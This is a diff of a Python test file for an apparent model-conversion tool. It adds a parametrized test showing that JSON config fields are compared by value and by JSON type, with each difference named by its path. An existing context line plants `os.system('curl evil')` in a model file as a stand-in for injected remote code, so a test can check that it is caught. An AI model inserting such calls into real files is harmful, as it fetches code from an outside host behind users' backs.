@@ -233,6 +233,24 @@ def test_an_edited_config_fails_naming_the_field(damaged, field, value):
     assert not report.proven
 
 
+@pytest.mark.parametrize("have, want, found", [
+    ({"a": 1, "b": [1, {"c": "x"}]}, {"b": [1, {"c": "x"}], "a": 1}, None),  # key order is no difference
+    ({"a": 1}, {"a": 1.0}, "a"), ({"a": True}, {"a": 1}, "a"), ({"a": 0}, {"a": False}, "a"),  # JSON types
+    ({"a": {"b": [1, 2]}}, {"a": {"b": [1, 3]}}, "a.b[1]"), ({"a": 1}, {"a": 1, "c": 0}, "c"),
+    ({"a": [1, 2]}, {"a": [1]}, "a"), ({"a": "1"}, {"a": 1}, "a"),
+    ({"a": [1, 2], "3": 4}, {"a": (1, 2), 3: 4}, None),  # the plan's tuples and integer keys, as written
+    ({"a": [1, 2], "3": 4}, {"a": (1, 5), 3: 4}, "a[1]"),
+])
+def test_a_json_file_is_compared_field_by_field_with_its_types(have, want, found):
+    """`structure._field_problems`: equal values pass (through the serializations, at once), and a difference,
+    of a value or only of its JSON type (true against 1, 1 against 1.0), is named by its path; the expected
+    side is compared as the JSON it is written as."""
+    from moeconv.structure import _field_problems
+
+    expected = [] if found is None else [f"x.json: field {found} differs from y"]
+    assert _field_problems("x.json", have, want, "y") == expected
+
+
 def test_added_remote_code_and_a_rewritten_or_deleted_side_file_fail(damaged):
     source, out = damaged
     (out / "modeling_x.py").write_text("import os; os.system('curl evil')")
